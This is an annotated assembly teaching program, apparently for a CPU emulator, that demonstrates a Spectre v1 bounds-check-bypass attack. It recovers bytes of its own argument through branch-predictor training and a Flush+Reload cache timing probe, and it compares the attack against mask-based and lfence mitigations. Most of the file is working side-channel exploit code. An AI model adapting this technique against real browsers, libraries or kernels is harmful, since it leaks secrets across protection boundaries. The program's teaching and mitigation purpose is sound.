# spectre_v1: the check was right, and came too late
#
# What it teaches: `if (x < size) y = array2[array1[x] * 4096]` reads nothing beyond array1. But when size
# has to come from memory, the core does not wait for it: it guesses how the comparison will end, as it
# ended the last times, and executes on. So a routine that is taught with good numbers and then given a bad one
# reads what the bad one names, touches a page of array2 that the byte chooses, and forgets all but
# the line in the cache (Kocher et al., Spectre Attacks, 2018). Nothing faults, so no kernel notices.
#
# The victim is a routine of this very program, as it would be in a library, a browser or the kernel. The attack
# calls it; of the text it reads only where that ends.
#
# Try:  cr3 run programs/spectre_v1.asm --caches -- "never read"
#       cr3 run programs/spectre_v1.asm --caches -- "never read" mask
#       The second victim has Linux's array_index_nospec: a number that is too large becomes 0, by computing
#       and not by guessing. With "lfence" instead of "mask" it waits for the comparison.
#
# expect: exit 0
# expect stdout: nothing to read

    .equ    PAGE, 4096
    .equ    TRIES, 4                    # for each byte
    .equ    CALLS, 24                   # in a try; each sixth has the bad number
    .equ    GOOD, 8                     # elements of array1

    .section .rodata
nothing:
    .ascii  "nothing to read\n"
    .equ    NOTHING, . - nothing
read:
    .ascii  "read: "
    .equ    READ, . - read

    .data
    .balign 64
size:
    .quad   GOOD
    .skip   56                          # in a line of its own
array1:
    .skip   GOOD                        # zeros: what is read in bounds touches page 0
    .skip   56
victim:
    .quad   plain_victim

    .bss
    .balign PAGE
array2:
    .skip   256 * PAGE
latencies:
    .skip   256 * 4
leaked:
    .skip   4096

    .text
plain_victim:                           # rdi = x
    cmp     rdi, [rip + size]
    jae     1f
    lea     rax, [rip + array1]
    movzx   eax, byte ptr [rax + rdi]
    shl     eax, 12
    mov     al, [rbx + rax]
1:  ret

mask_victim:
    cmp     rdi, [rip + size]
    jae     1f
    sbb     rax, rax                    # all ones if x is below size, else 0 (array_index_mask_nospec)
    and     rdi, rax
    lea     rax, [rip + array1]
    movzx   eax, byte ptr [rax + rdi]
    shl     eax, 12
    mov     al, [rbx + rax]
1:  ret

lfence_victim:
    cmp     rdi, [rip + size]
    jae     1f
    lfence                              # until the comparison is done (barrier_nospec)
    lea     rax, [rip + array1]
    movzx   eax, byte ptr [rax + rdi]
    shl     eax, 12
    mov     al, [rbx + rax]
1:  ret

    .globl  _start
_start:
    cmp     qword ptr [rsp], 2          # argc
    jb      silent
    mov     r12, [rsp + 16]             # argv[1], the text: only its address is used
    je      prepare
    mov     rax, [rsp + 24]             # argv[2], which victim
    cmp     byte ptr [rax], 'm'
    lea     rcx, [rip + mask_victim]
    je      choose
    lea     rcx, [rip + lfence_victim]
choose:
    mov     [rip + victim], rcx
prepare:
    lea     rbx, [rip + array2]
    xor     ecx, ecx
promise:                                # every page a frame of its own: all untouched ones share the zero page
    mov     byte ptr [rbx + rcx], 1
    add     ecx, PAGE
    cmp     ecx, 256 * PAGE
    jb      promise
    call    calibrate                   # r15d = half way between near and far
    lea     rax, [rip + array1]
    sub     r12, rax                    # the text, as if it were in array1
    xor     r13d, r13d                  # bytes so far

next_byte:
    lea     rax, [rip + array1]         # where the text ends is no secret
    add     rax, r12
    cmp     byte ptr [rax + r13], 0
    je      finish
    mov     r14d, TRIES
attempt:
    xor     ecx, ecx
flush:
    clflush [rbx + rcx]
    add     ecx, PAGE
    cmp     ecx, 256 * PAGE
    jb      flush
    mfence

    mov     ebp, CALLS
teach:
    clflush [rip + size]
    mfence
    mov     eax, ebp                    # x = the bad number in each sixth call, else a good one; without a branch, which
    xor     edx, edx                    # the core would learn
    mov     ecx, 6
    div     ecx
    neg     edx
    sbb     rdx, rdx                    # 0 in each sixth call, else all ones
    mov     eax, ebp
    and     eax, GOOD - 1
    and     rax, rdx
    not     rdx
    lea     rdi, [r12 + r13]
    and     rdi, rdx
    or      rdi, rax
    call    [rip + victim]
    dec     ebp
    jnz     teach

    call    reload                      # edi = the page that is near
    test    edi, edi
    jnz     found
    dec     r14d
    jnz     attempt
    mov     edi, '?'
found:
    lea     rdx, [rip + leaked]
    mov     [rdx + r13], dil
    inc     r13d
    jmp     next_byte

finish:
    mov     edi, 1
    lea     rsi, [rip + read]
    mov     edx, offset READ
    mov     eax, 1                      # write
    syscall
    lea     rsi, [rip + leaked]
    mov     byte ptr [rsi + r13], 10    # newline
    lea     edx, [r13 + 1]
    jmp     print
silent:
    lea     rsi, [rip + nothing]
    mov     edx, offset NOTHING
print:
    mov     edi, 1
    mov     eax, 1
    syscall
    xor     edi, edi
    mov     eax, 60                     # exit
    syscall

# reload: edi = the page of array2 whose load takes least, if it is near, else 0; page 0, which the good numbers touch,
# does not count. Changes rax, rcx, rdx, rsi, r8, r9, r10.
reload:
    xor     edi, edi
    mov     r10d, r15d                  # the least so far
    xor     r9d, r9d
probe:
    imul    ecx, r9d, 167               # in an order that no prefetcher guesses
    add     ecx, 13
    and     ecx, 255
    mov     esi, ecx
    shl     esi, 12
    add     rsi, rbx
    push    rcx
    call    time_load
    pop     rcx
    test    ecx, ecx
    jz      other
    cmp     eax, r10d
    jae     other
    mov     r10d, eax
    mov     edi, ecx
other:
    inc     r9d
    cmp     r9d, 256
    jb      probe
    ret

# time_load: eax = cycles of a load from rsi. Changes rcx, rdx, r8.
time_load:
    rdtscp                              # waits for the loads before it
    mov     r8d, eax
    mov     cl, [rsi]
    rdtscp
    sub     eax, r8d
    ret

# calibrate: r15d = half way between a load from the caches and one from memory. Changes rax, rcx, rdx, rsi, r8.
calibrate:
    mov     rsi, rbx
    clflush [rsi]
    mfence
    call    time_load
    mov     r15d, eax
    call    time_load
    add     r15d, eax
    shr     r15d, 1
    ret
